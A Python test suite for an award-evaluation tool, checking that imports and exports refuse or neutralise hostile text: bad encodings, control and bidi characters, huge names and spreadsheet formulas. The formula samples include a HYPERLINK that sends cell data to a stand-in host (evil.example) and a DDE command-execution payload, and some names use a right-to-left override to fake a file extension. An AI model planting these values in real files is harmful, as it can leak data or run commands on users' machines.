"""Hostile text (issue 11, points 2, 11 and 12): names with control, bidi and zero-width
characters, 60,000-character names, Big5 and Shift-JIS files, formulas in names.

Every hostile input is built here in code. A refused import names its reason code
(`TextRefusal`) and line, and leaves the workspace's `.dump` and its folder as they were;
an export of whatever a workspace holds gives a file that opens, never a traceback.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import tempfile
import time
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from qz_evaluator.assets import criteria_set
from qz_evaluator.domain.credit_code import check_character
from qz_evaluator.domain.errors import UserError
from qz_evaluator.domain.scorecard import Scorecard, ScorecardStatus, TextField
from qz_evaluator.domain.text import FILE_NAME_PART_LIMIT, NAME_LIMIT, safe_file_name
from qz_evaluator.services import (
    demo,
    identity,
    merge,
    reports,
    results,
    results_export,
    score_sheets,
    scorecard_files,
)
from qz_evaluator.services.csv_files import TextRefused
from qz_evaluator.services.errors import ImportFailed
from qz_evaluator.services.imports import import_candidates, import_roster
from qz_evaluator.services.scorecard_files import export_scorecard
from qz_evaluator.services.scoring import ScoringService
from qz_evaluator.store.workspace import Role, Workspace
from tests.hostile.test_scorecards import Committee, committee, document, p01_signed

__all__ = ["committee"]  # a fixture, shared with the hostile scorecard tests

HEADER = ["credit_code", "name", "county", "industry", "tier"]


def code(index: int) -> str:
    first17 = f"91330800MA2X{index:05d}"
    return first17 + check_character(first17)


def dump(workspace: Workspace) -> str:
    return "\n".join(workspace.db.conn.iterdump())


def files(folder: Path) -> set[str]:
    return {p.name for p in folder.iterdir()}


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8-sig") -> Path:
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def refused(workspace: Workspace, path: Path, reason: str, line: int | None) -> TextRefused:
    """The import of `path` is refused for `reason` on `line`, and changes nothing."""
    before, folder = dump(workspace), files(path.parent)
    with pytest.raises(TextRefused) as caught:
        import_candidates(workspace, path)
    assert (caught.value.code, caught.value.line) == (reason, line)
    assert str(path) in str(caught.value)
    assert dump(workspace) == before
    assert files(path.parent) == folder
    return caught.value


# ----- point 12: encodings ----------------------------------------------------------------


TRADITIONAL = [
    ["統一社會信用代碼", "單位名稱", "縣（市、區）", "行業", "梯隊"],
    [code(1), "衢州示範新材料有限公司", "柯城區", "製造業", "種子"],
    [code(2), "龍遊電子資訊股份有限公司", "龍遊縣", "電子資訊", "潛力"],
]
JAPANESE = [
    ["credit_code", "name", "county", "industry", "tier"],
    [code(1), "株式会社テスト", "東京都", "製造業", "seed"],
]


@pytest.mark.parametrize(
    ("rows", "encoding", "line"),
    [(TRADITIONAL, "big5", 1), (JAPANESE, "shift_jis", 2)],
    ids=["big5", "sjis"],
)
def test_big5_and_shift_jis_are_refused_not_stored_as_mojibake(
    workspace: Workspace, tmp_path: Path, rows: list[list[str]], encoding: str, line: int
) -> None:
    path = write_csv(tmp_path / f"{encoding}.csv", rows, encoding)
    error = refused(workspace, path, "undecodable-text", line)  # its first odd character
    assert "CSV UTF-8" in str(error)


def test_bytes_that_are_no_text_name_their_line(workspace: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "garbled.csv"
    path.write_bytes(",".join(HEADER).encode() + b"\n" + code(1).encode() + b",\x80\xff\n")
    refused(workspace, path, "undecodable-text", 2)


def test_gb18030_with_a_rare_character_still_imports(workspace: Workspace, tmp_path: Path) -> None:
    rows = [
        ["统一社会信用代码", "单位名称", "县（市、区）", "行业", "梯队"],
        [code(1), "衢州市喆宇新材料有限公司", "柯城区", "新材料", "种子"],
        [code(2), "衢州市衢峰电子科技有限公司", "柯城区", "集成电路", "潜力"],
    ]
    import_candidates(workspace, write_csv(tmp_path / "gbk.csv", rows, "gb18030"))
    assert workspace.candidate(code(1)).name == "衢州市喆宇新材料有限公司"


# ----- point 12: names ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "reason", "named"),
    [
        ("\u200b", "no-visible-text", ""),
        ("\u200b\u200d\u3164 ", "no-visible-text", ""),
        ("衢州\x00示例", "control-character", "U+0000"),
        ("衢州\x1b[31m示例", "control-character", "U+001B"),
        ("衢州\r\n示例", "control-character", "U+000D"),
        ("衢州\n示例", "control-character", "U+000A"),
        ("罗思丽\u202eexe.fdp\u202c", "control-character", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("衢州\u2067示例", "control-character", "U+2067 RIGHT-TO-LEFT ISOLATE"),
        ("衢州\u200b示例", "control-character", "U+200B ZERO WIDTH SPACE"),
        ("衢" * (NAME_LIMIT + 1), "text-too-long", ""),
        ("衢" * 60_000, "text-too-long", ""),
    ],
    ids=["zwsp", "fillers", "nul", "ansi", "crlf", "lf", "rlo", "rli", "zw-inside", "201", "60k"],
)
def test_hostile_names_are_refused_with_line_and_reason(
    workspace: Workspace, tmp_path: Path, name: str, reason: str, named: str
) -> None:
    rows = [HEADER, [code(1), "衢州示例有限公司", "柯城区", "新材料", "seed"]]
    rows.append([code(2), name, "柯城区", "新材料", "seed"])
    error = refused(workspace, write_csv(tmp_path / "c.csv", rows), reason, 3)
    assert named in str(error)
    assert "column name" in str(error)


def test_a_name_at_the_limit_imports(workspace: Workspace, tmp_path: Path) -> None:
    rows = [HEADER, [code(1), "衢" * NAME_LIMIT, "柯城区", "新材料", "seed"]]
    import_candidates(workspace, write_csv(tmp_path / "c.csv", rows))
    assert len(workspace.candidate(code(1)).name) == NAME_LIMIT


def test_other_columns_and_the_roster_follow_the_same_rules(
    workspace: Workspace, tmp_path: Path
) -> None:
    rows = [HEADER, [code(1), "衢州示例有限公司", "柯城\x1b区", "新材料", "seed"]]
    error = refused(workspace, write_csv(tmp_path / "c.csv", rows), "control-character", 2)
    assert "column county" in str(error)
    roster = write_csv(
        tmp_path / "roster.csv", [["code", "name", "level"], ["P01", "罗\u202e思丽", "provincial"]]
    )
    before = dump(workspace)
    with pytest.raises(TextRefused) as caught:
        import_roster(workspace, roster)
    assert (caught.value.code, caught.value.line) == ("control-character", 2)
    assert dump(workspace) == before


# ----- the one file-name rule ---------------------------------------------------------------


def test_file_names_from_hostile_names_are_plain() -> None:
    assert safe_file_name("罗思丽\u202eexe.fdp\u202c") == "罗思丽_exe.fdp"
    assert safe_file_name("a\x00b\x1bc") == "a_b_c"
    assert safe_file_name("..\\..\\x") == "x"
    assert len(safe_file_name("衢" * 60_000)) == FILE_NAME_PART_LIMIT


@given(st.text())
def test_safe_file_name_keeps_only_letters_digits_and_plain_marks(text: str) -> None:
    name = safe_file_name(text)
    assert len(name) <= FILE_NAME_PART_LIMIT
    assert not name.startswith((".", "_")) and not name.endswith((".", "_"))
    for char in name:
        assert char in "-_.()（）·" or unicodedata.category(char)[0] in "LNM", repr(char)
    assert safe_file_name(name) == name


# ----- point 11 and point 2: exports of whatever a workspace holds -------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "＝1+1",
)


@pytest.fixture(scope="module")
def secretariat(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    """The secretariat's demo: a merged round, with its demo signing identity."""
    folder = tmp_path_factory.mktemp("secretariat")
    workspace, _ = demo.build_secretariat_demo(folder / "sec.qzw", folder / "scratch")
    demo.start_secretariat_demo_identity(workspace)
    yield workspace
    workspace.close()


def rename(workspace: Workspace, credit_code: str, name: str) -> None:
    """Put a name in the workspace as an older version of the program could have."""
    candidate = workspace.candidate(credit_code)
    workspace.upsert_candidate(dataclasses.replace(candidate, name=name), reason="test")


def scored_codes(workspace: Workspace) -> list[str]:
    return sorted({s.credit_code for s in workspace.submissions()})


def test_formulas_in_names_are_text_in_csv_and_xlsx(secretariat: Workspace) -> None:
    computed = results.compute(secretariat, demo.SITE_ROUND)
    codes = [o.candidate.credit_code for o in computed.outcomes][: len(FORMULAS)]
    assert len(codes) == len(FORMULAS)
    named = dict(zip(codes, FORMULAS, strict=True))
    for credit_code, name in named.items():
        rename(secretariat, credit_code, name)
    computed = results.compute(secretariat, demo.SITE_ROUND)

    table = list(csv.reader(io.StringIO(results_export.to_csv(computed).decode("utf-8-sig"))))
    header = table[0]
    by_code = {row[header.index("统一社会信用代码")]: row for row in table[1:]}
    for credit_code, name in named.items():
        assert by_code[credit_code][header.index("单位名称")] == "'" + name

    data = results_export.to_xlsx(computed)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    sheet = load_workbook(io.BytesIO(data))["评审结果"]
    rows = list(sheet.iter_rows())
    names = [c.value for c in rows[0]]
    name_at, code_at = names.index("单位名称"), names.index("统一社会信用代码")
    official_at = names.index("最终得分")
    seen = 0
    for row in rows[1:]:
        name_cell = row[name_at]
        assert name_cell.data_type == "s"
        if row[code_at].value in named:
            seen += 1
            # The exact name, shown as text by Excel's own apostrophe (quotePrefix).
            assert name_cell.value == named[row[code_at].value]
            assert name_cell.quotePrefix
        official = row[official_at].value
        assert official in (None, "") or isinstance(official, float)  # numbers stay numbers
    assert seen == len(FORMULAS)


@pytest.mark.parametrize(
    "name", ["衢州\x1b[31m示例\x00公司\u202e", "衢" * 60_000], ids=["esc-nul-rlo", "60k"]
)
def test_reports_and_exports_of_hostile_names_work(
    secretariat: Workspace, tmp_path: Path, name: str
) -> None:
    credit_code = scored_codes(secretariat)[0]
    rename(secretariat, credit_code, name)
    started = time.monotonic()
    computed = results.compute(secretariat, demo.SITE_ROUND)
    results_export.write(computed, tmp_path / "r.xlsx")
    results_export.write(computed, tmp_path / "r.csv")
    reports.results_report(secretariat, demo.SITE_ROUND, tmp_path / "r.pdf", computed=computed)
    reports.feedback_report(
        secretariat, demo.SITE_ROUND, credit_code, tmp_path / "f.pdf", computed=computed
    )
    assert time.monotonic() - started < 60  # cutting a chart label was quadratic: minutes
    assert files(tmp_path) == {"r.xlsx", "r.csv", "r.pdf", "f.pdf"}  # no .part left
    book = load_workbook(tmp_path / "r.xlsx")
    shown = [c.value for row in book["评审结果"].iter_rows() for c in row]
    expected = "衢州\ufffd[31m示例\ufffd公司\ufffd" if "\x1b" in name else None
    if expected is not None:
        assert expected in shown
    for path in ("r.pdf", "f.pdf"):
        assert (tmp_path / path).read_bytes().startswith(b"%PDF")


@pytest.fixture
def evaluator(tmp_path: Path) -> Iterator[Workspace]:
    """The demo's evaluator P01 with the demo's signing identity of this session."""
    workspace = demo.build_demo(tmp_path / "p01.qzw")
    demo.start_demo_identity(workspace)
    yield workspace
    workspace.close()


def final_card(workspace: Workspace) -> Scorecard:
    service = ScoringService(workspace)
    card = service.ensure_all(demo.SITE_ROUND)[-1]
    for item in criteria_set(card.criteria_id).items:
        card = service.set_percent(card, item.code, 60).card
        card = service.set_text(card, item.code, TextField.STRENGTHS, "方法系统").card
    card = service.finalise(card, affirm_declaration=True).card
    assert card.status is ScorecardStatus.FINAL
    return card


@pytest.mark.parametrize(
    "name", ["衢州\x00示例\x1b公司\u202eexe.fdp", "衢" * 60_000], ids=["nul-esc-rlo", "60k"]
)
def test_the_evaluators_export_of_hostile_names_works(
    evaluator: Workspace, tmp_path: Path, name: str
) -> None:
    card = final_card(evaluator)
    rename(evaluator, card.credit_code, name)
    out = tmp_path / "out"
    out.mkdir()
    result = export_scorecard(evaluator, card, out)
    assert files(out) == {result.path.name}  # no .part file
    assert re.fullmatch(r"[\w\-.()（）·]+\.pdf", result.path.name)
    assert result.path.read_bytes().startswith(b"%PDF")


# ----- point 12: the property --------------------------------------------------------------

VISIBLE = "衢州罗思丽Ab1-=（）"
BLANK = " \u3000"
CONTROL = "\x00\x1b\r\n\t"
FORMAT = "\u200b\u200f\u202e\u2066"
FILLER = "\u3164"
ALPHABET = VISIBLE + BLANK + CONTROL + FORMAT + FILLER

names = st.one_of(
    st.text(alphabet=ALPHABET, max_size=12),
    st.integers(NAME_LIMIT - 2, NAME_LIMIT + 2).map(lambda n: "衢" * n),
)
rows_strategy = st.lists(st.tuples(st.integers(1, 6), names), max_size=6)


def model(rows: list[tuple[int, str]]) -> dict[str, str] | str:
    """What importing these (code, name) rows gives: the names by credit code, or the
    error code of the first bad row. The rules, said plainly: edges are trimmed; a name
    with nothing visible, with a control or format character, longer than the limit,
    empty, or a code seen before is refused."""
    imported: dict[str, str] = {}
    for index, name in rows:
        name = name.strip()
        if name and not any(c in VISIBLE for c in name):
            return "no-visible-text"
        if any(c in CONTROL + FORMAT for c in name):
            return "control-character"
        if len(name) > NAME_LIMIT:
            return "text-too-long"
        if not name or code(index) in imported:
            return "import-failed"
        imported[code(index)] = name
    return imported


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=rows_strategy, bom=st.booleans())
def test_candidate_import_is_the_model_or_refused_with_nothing_written(
    rows: list[tuple[int, str]], bom: bool
) -> None:
    expected = model(rows)
    with tempfile.TemporaryDirectory(prefix="qz-texts-") as folder:
        workspace = Workspace.create(Path(folder) / "ws.qzw", Role.SECRETARIAT)
        try:
            table = [HEADER] + [[code(i), n, "柯城区", "新材料", "seed"] for i, n in rows]
            path = write_csv(Path(folder) / "c.csv", table, "utf-8-sig" if bom else "utf-8")
            before, listing = dump(workspace), files(Path(folder))
            try:
                import_candidates(workspace, path)
            except ImportFailed as error:
                assert error.code == expected, (error, expected)
                assert dump(workspace) == before
                assert files(Path(folder)) == listing
                return
            assert isinstance(expected, dict), expected
            stored = {c.credit_code: c.name for c in workspace.candidates()}
            assert stored == expected
        finally:
            workspace.close()


def test_the_cli_prints_the_reason_code_not_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], memory_keyring: object
) -> None:
    from qz_evaluator.cli import main

    workspace = tmp_path / "sec.qzw"
    assert main(["init", str(workspace), "--role", "secretariat"]) == 0
    path = write_csv(tmp_path / "big5.csv", TRADITIONAL, "big5")
    before = files(tmp_path)
    capsys.readouterr()
    returncode = main(["candidates", "import", str(path), "-w", str(workspace), "--json"])
    out, err = capsys.readouterr()
    assert returncode == 1
    error = json.loads(out)["error"]
    assert error["code"] == "undecodable-text"
    assert f"{path}, line 1: " in error["message"]
    assert "Traceback" not in err
    assert files(tmp_path) == before


# ----- issue 11: comments (strengths, OFIs, evidence, notes, reasons) on every path ----------

# (text, code, what the message names): each refused wherever a comment is stored.
HOSTILE_COMMENTS = {
    "rlo": (
        "方法系统\u202eexe.fdp",
        "control-character",
        "U+202E RIGHT-TO-LEFT OVERRIDE at character 5",
    ),
    "lri": ("\u2066方法", "control-character", "U+2066 LEFT-TO-RIGHT ISOLATE at character 1"),
    "nul": ("方法\x00系统", "control-character", "U+0000 at character 3"),
    "esc": ("方法\x1b[31m", "control-character", "U+001B at character 3"),
    "c1": ("方法\x85系统", "control-character", "U+0085 at character 3"),
    "lone-cr": ("方法\r系统", "control-character", "U+000D at character 3"),
    "long": ("衢" * 4_001, "text-too-long", "it has 4001 characters, more than the 4000 allowed"),
}
COMMENT_IDS = list(HOSTILE_COMMENTS)


def unchanged(workspace: Workspace, code: str, named: str, call: Callable[[], object]) -> None:
    """`call` is refused with `code`, its message names `named`, and nothing changes."""
    before = dump(workspace)
    with pytest.raises(UserError) as caught:
        call()
    assert caught.value.code == code, caught.value
    assert named in str(caught.value)
    assert dump(workspace) == before


def draft_card(workspace: Workspace) -> Scorecard:
    return ScoringService(workspace).ensure_all(demo.SITE_ROUND)[-1]


def test_the_scoring_service_refuses_hostile_comments_in_every_box(evaluator: Workspace) -> None:
    """The window and the CLI write notes through the one service."""
    service = ScoringService(evaluator)
    card = draft_card(evaluator)
    for text, code, named in HOSTILE_COMMENTS.values():
        for which in TextField:
            unchanged(
                evaluator,
                code,
                named,
                lambda: service.set_text(card, "4.1.2", which, text),  # noqa: B023
            )
    with pytest.raises(UserError) as error:
        service.set_text(card, "4.1.2", TextField.OFIS, "\u202e")
    assert str(error.value).startswith("the opportunities for improvement of item 4.1.2: ")


def test_line_breaks_and_tabs_are_kept_and_crlf_is_stored_as_lf(evaluator: Workspace) -> None:
    service = ScoringService(evaluator)
    card = draft_card(evaluator)
    text = "一、领导重视\r\n\t二、方法系统\n三、\u200d👨\u200d👩\u200d👧"
    card = service.set_text(card, "4.1.2", TextField.STRENGTHS, text).card
    stored = evaluator.scorecard_by_id(card.id).entry("4.1.2").strengths
    assert stored == text.replace("\r\n", "\n")


def test_the_rounds_comment_limit_is_the_cap(evaluator: Workspace) -> None:
    settings = evaluator.round_settings(demo.SITE_ROUND)
    evaluator.set_round_settings(demo.SITE_ROUND, dataclasses.replace(settings, comment_limit=20))
    service = ScoringService(evaluator)
    card = draft_card(evaluator)
    card = service.set_text(card, "4.1.2", TextField.EVIDENCE, "衢" * 20).card
    unchanged(
        evaluator,
        "text-too-long",
        "the evidence of item 4.1.2: it has 21 characters, more than the 20 allowed",
        lambda: service.set_text(card, "4.1.2", TextField.EVIDENCE, "衢" * 21),
    )


@pytest.mark.parametrize("which", COMMENT_IDS)
def test_the_cli_refuses_a_hostile_note_and_writes_no_score_either(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], memory_keyring: object, which: str
) -> None:
    from qz_evaluator.cli import main

    text, code, named = HOSTILE_COMMENTS[which]
    path = tmp_path / "p01.qzw"
    demo.build_demo(path).close()
    workspace = Workspace.open(path)
    card = draft_card(workspace)
    before = dump(workspace)
    capsys.readouterr()
    returncode = main(
        [
            "score", "--round", demo.SITE_ROUND, "--candidate", card.credit_code,
            "--item", "4.1.2", "--percent", "45", "--strengths", text,
            "-w", str(path), "--json",
        ]
    )  # fmt: skip
    out, _ = capsys.readouterr()
    assert returncode == 1
    error = json.loads(out)["error"]
    assert error["code"] == code
    assert named in error["message"]
    assert dump(workspace) == before  # not even the percentage
    workspace.close()


def sheet_rows(credit_code: str, column: str, text: str) -> list[list[str]]:
    header = ["credit_code", "item", "percent", "strengths", "ofis", "evidence"]
    row = [credit_code, "4.1.3", "45", "", "", ""]
    row[header.index(column)] = text
    return [header, [credit_code, "4.1.2", "50", "高层亲自推动\n（访谈）", "", ""], row]


def write_xlsx(path: Path, rows: list[list[str]]) -> Path:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


@pytest.mark.parametrize("column", ["strengths", "ofis", "evidence"])
@pytest.mark.parametrize(
    ("kind", "which"),
    # An .xlsx (XML 1.0) cannot hold ESC at all.
    [*(("csv", w) for w in ("rlo", "lri", "esc", "c1", "long")), ("xlsx", "rlo"), ("xlsx", "c1")],
)
def test_score_sheets_refuse_hostile_cells_with_file_row_and_column(
    evaluator: Workspace, tmp_path: Path, which: str, column: str, kind: str
) -> None:
    text, code, named = HOSTILE_COMMENTS[which]
    credit_code = draft_card(evaluator).credit_code
    rows = sheet_rows(credit_code, column, text)
    path = (
        write_csv(tmp_path / "sheet.csv", rows)
        if kind == "csv"
        else write_xlsx(tmp_path / "sheet.xlsx", rows)
    )
    before, listing = dump(evaluator), files(tmp_path)
    with pytest.raises(ImportFailed) as caught:
        score_sheets.import_sheet(evaluator, path, demo.SITE_ROUND)
    # A CSV row's line is where it starts: the row before holds a line break.
    line = 4 if kind == "csv" else 3
    assert (caught.value.code, caught.value.line) == (code, line)
    message = str(caught.value)
    assert f"{path}, line {line}: column {column}, " in message
    assert " of item 4.1.3: " in message and named in message
    assert dump(evaluator) == before
    assert files(tmp_path) == listing


def test_a_sheets_line_breaks_and_tabs_import(evaluator: Workspace, tmp_path: Path) -> None:
    credit_code = draft_card(evaluator).credit_code
    rows = sheet_rows(credit_code, "ofis", "一、战略展开不足\r\n\t二、测量不足")
    score_sheets.import_sheet(evaluator, write_csv(tmp_path / "s.csv", rows), demo.SITE_ROUND)
    card = evaluator.scorecard(demo.SITE_ROUND, credit_code, "P01")
    assert card.entry("4.1.3").ofis == "一、战略展开不足\n\t二、测量不足"
    assert card.entry("4.1.2").strengths == "高层亲自推动\n（访谈）"


@pytest.mark.parametrize("which", COMMENT_IDS)
def test_reopen_and_conflict_reasons_follow_the_comment_rule(
    evaluator: Workspace, which: str
) -> None:
    text, code, named = HOSTILE_COMMENTS[which]
    service = ScoringService(evaluator)
    final = final_card(evaluator)
    unchanged(evaluator, code, named, lambda: service.reopen(final, text))
    draft = service.ensure_all(demo.SITE_ROUND)[0]
    unchanged(evaluator, code, named, lambda: service.declare_conflict(draft, text))
    with pytest.raises(UserError) as error:
        service.declare_conflict(draft, "利益\u202e冲突")
    assert "the reason for the conflict declaration: " in str(error.value)


def test_a_reopen_reason_with_line_breaks_is_kept(evaluator: Workspace) -> None:
    service = ScoringService(evaluator)
    change = service.reopen(final_card(evaluator), "4.2.2 抄错\r\n已核对原件")
    assert change.card.status is ScorecardStatus.DRAFT


@pytest.mark.parametrize("which", COMMENT_IDS)
def test_consensus_notes_and_their_authors_follow_the_rules(
    secretariat: Workspace, which: str
) -> None:
    text, code, named = HOSTILE_COMMENTS[which]
    credit_code = scored_codes(secretariat)[0]

    def note(author: str, body: str) -> object:
        return results.add_consensus_note(
            secretariat, demo.SITE_ROUND, credit_code, "4.1.2", author, body, None
        )

    unchanged(secretariat, code, named, lambda: note("组长", text))
    unchanged(secretariat, "control-character", "author", lambda: note("组\u202e长", "一致"))


# ----- issue 11: round names ---------------------------------------------------------------

HOSTILE_NAMES = {
    "blank": ("\u200b\u3164", "no-visible-text"),
    "rlo": ("2026年\u202e审评场现", "control-character"),
    "newline": ("2026年\n现场评审", "control-character"),
    "long": ("衢" * (NAME_LIMIT + 1), "text-too-long"),
}


@pytest.mark.parametrize("which", list(HOSTILE_NAMES))
def test_round_names_follow_the_name_rule_in_the_service_and_the_cli(
    workspace: Workspace,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    memory_keyring: object,
    which: str,
) -> None:
    from qz_evaluator.cli import main
    from qz_evaluator.domain.roster import RoundKind
    from qz_evaluator.services import pool

    name, code = HOSTILE_NAMES[which]
    unchanged(
        workspace,
        code,
        "the name of round 2027-site: ",
        lambda: pool.add_round(
            workspace, "2027-site", name, RoundKind.SITE_VISIT, 2027, "gbt19580-2012"
        ),
    )
    path = tmp_path / "sec.qzw"
    assert main(["init", str(path), "--role", "secretariat"]) == 0
    before = files(tmp_path)
    capsys.readouterr()
    returncode = main(
        ["round", "add", "2027-site", "--kind", "site-visit", "--year", "2027",
         "--name", name, "-w", str(path), "--json"]
    )  # fmt: skip
    out, _ = capsys.readouterr()
    assert returncode == 1
    assert json.loads(out)["error"]["code"] == code
    with Workspace.open(path) as opened:
        assert opened.rounds() == []
    assert files(tmp_path) == before


def test_a_round_name_is_trimmed_and_none_gives_its_code(workspace: Workspace) -> None:
    from qz_evaluator.domain.roster import RoundKind
    from qz_evaluator.services import pool

    added = pool.add_round(
        workspace, "2027-site", " 2027年度现场评审 ", RoundKind.SITE_VISIT, 2027, "gbt19580-2012"
    )
    assert added.name == "2027年度现场评审"
    assert (
        pool.add_round(
            workspace, "2027-desk", "", RoundKind.DOCUMENT_REVIEW, 2027, "gbt19580-2012"
        ).name
        == "2027-desk"
    )


def test_a_package_carrying_a_hostile_round_name_is_refused(
    tmp_path: Path, memory_keyring: object
) -> None:
    from qz_evaluator.services import packages
    from tests.services.conftest import committee_and_p01

    with committee_and_p01(tmp_path) as (secretariat, evaluator):
        # As an older version, which did not check round names, could have stored it.
        round_ = secretariat.round(demo.SITE_ROUND)
        secretariat.upsert_round(dataclasses.replace(round_, name="现场\u202e评审"))
        path = packages.export_packages(secretariat, demo.SITE_ROUND, tmp_path / "pkg", ["P01"])[0]
        before = dump(evaluator)
        with pytest.raises(UserError) as caught:
            packages.import_package(evaluator, path)
        assert caught.value.code == "package-malformed"
        assert "U+202E RIGHT-TO-LEFT OVERRIDE" in str(caught.value)
        assert dump(evaluator) == before


# ----- issue 11: an insider's signed scorecard.json and declaration.json -------------------


def test_signed_scorecards_with_hostile_text_are_refused_at_verify_and_merge(
    committee: Committee, capsys: pytest.CaptureFixture[str]
) -> None:
    from qz_evaluator.cli import main

    folder = committee.tmp / "insider-text"
    folder.mkdir()
    doc = document(committee)
    first = doc.entries[0]
    for which, (text, _, _) in HOSTILE_COMMENTS.items():
        entries = (dataclasses.replace(first, ofis=text), *doc.entries[1:])
        p01_signed(committee, dataclasses.replace(doc, entries=entries), folder / f"{which}.pdf")
    p01_signed(
        committee,
        dataclasses.replace(doc, conflict_note="\u202e"),
        folder / "note.pdf",
    )
    p01_signed(
        committee,
        dataclasses.replace(doc, round=dataclasses.replace(doc.round, name="现场\x1b评审")),
        folder / "round-name.pdf",
    )
    checks = scorecard_files.check_files(sorted(folder.iterdir()), committee.root)
    assert {Path(c.source).stem: c.as_dict()["reason"] for c in checks} == dict.fromkeys(
        [*HOSTILE_COMMENTS, "note", "round-name"], "bad-text"
    )
    rlo = next(c for c in checks if Path(c.source).stem == "rlo")
    assert f"of item {first.item_code}: " in rlo.message
    assert "U+202E RIGHT-TO-LEFT OVERRIDE at character 5" in rlo.message

    capsys.readouterr()
    code = main(["verify", str(folder), "--workspace", str(committee.secretariat.path), "--json"])
    out, err = capsys.readouterr()
    assert (code, err) == (1, "")
    assert {e["reason"] for e in json.loads(out)} == {"bad-text"}

    before = dump(committee.secretariat)
    summary = merge.merge(committee.secretariat, [folder], workers=1)
    assert {e.reason for e in summary.entries} == {"bad-text"}
    assert dump(committee.secretariat) == before
    assert not merge.archive_dir(committee.secretariat).exists()


def test_a_signed_declaration_with_a_hostile_reason_is_refused_at_merge(
    committee: Committee,
) -> None:
    from qz_evaluator.domain import conflict_declaration as cd
    from qz_evaluator.services.conflict_declarations import signed_declaration_pdf

    now = datetime.now(UTC).isoformat(timespec="seconds")
    workspace = committee.evaluator
    card = committee.card
    declaration = cd.ConflictDeclaration(
        workspace_id=workspace.workspace_id,
        round=workspace.round(card.round_code),
        candidate=workspace.candidate(card.credit_code),
        evaluator=workspace.evaluator(card.evaluator_code),
        reason="曾任该单位顾问\u202e",
        statement=cd.CONFLICT_STATEMENT,
        declared_at=now,
        exported_at=now,
    )
    folder = committee.tmp / "declarations"
    folder.mkdir()
    signer = identity.evaluator_identity(workspace)
    (folder / "d.pdf").write_bytes(signed_declaration_pdf(declaration, signer))
    before = dump(committee.secretariat)
    summary = merge.merge(committee.secretariat, [folder], workers=1)
    assert [e.reason for e in summary.entries] == ["bad-text"]
    assert "U+202E RIGHT-TO-LEFT OVERRIDE at character 8" in summary.entries[0].message
    assert dump(committee.secretariat) == before
